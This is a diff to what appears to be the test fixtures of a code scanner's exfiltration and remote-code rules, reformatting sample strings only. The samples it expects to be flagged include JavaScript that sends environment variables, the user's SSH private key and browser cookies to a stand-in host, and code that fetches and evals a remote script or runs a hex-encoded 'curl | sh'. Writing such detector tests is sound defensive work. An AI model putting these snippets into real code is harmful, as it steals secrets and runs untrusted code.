@@ -17,8 +17,15 @@ from hermes_git.finding import WARNING
     sample="a.js",
     fires=(
         "fetch('https://x.example/u', {method: 'POST', body: JSON.stringify(process.env)});\n",
-        "const fs = require('fs'), os = require('os'), path = require('path');\nconst k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\nrequire('https').request('https://x.example').write(k);\n",
-        "new Image().src = 'https://x.example/c?d=' + document.cookie;\nconst s = {};\ns.src = 'https://x.example/' + document.cookie;\n",
+        (
+            "const fs = require('fs'), os = require('os'), path = require('path');\n"
+            "const k = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'));\n"
+            "require('https').request('https://x.example').write(k);\n"
+        ),
+        (
+            "new Image().src = 'https://x.example/c?d=' + document.cookie;\nconst s = {};\n"
+            "s.src = 'https://x.example/' + document.cookie;\n"
+        ),
     ),
     quiet=(
         "fetch('https://api.example/x', {headers: {Authorization: `Bearer ${process.env.API_KEY}`}});\n",
@@ -43,8 +50,14 @@ def script_exfiltration(reading: Reading) -> Iterator[Spot]:
     indicator=True,
     sample="a.js",
     fires=(
-        "fetch('https://x.example/p.js').then(r => r.text());\nasync function f() { const r = await fetch('https://x.example/p'); eval(await r.text()); }\n",
-        "const { exec } = require('child_process');\nexec(Buffer.from('6375726c20782e6578616d706c65207c207368', 'hex').toString());\n",
+        (
+            "fetch('https://x.example/p.js').then(r => r.text());\n"
+            "async function f() { const r = await fetch('https://x.example/p'); eval(await r.text()); }\n"
+        ),
+        (
+            "const { exec } = require('child_process');\n"
+            "exec(Buffer.from('6375726c20782e6578616d706c65207c207368', 'hex').toString());\n"
+        ),
     ),
     quiet=("const data = await (await fetch('https://x.example/d.json')).json();\n",),
 )
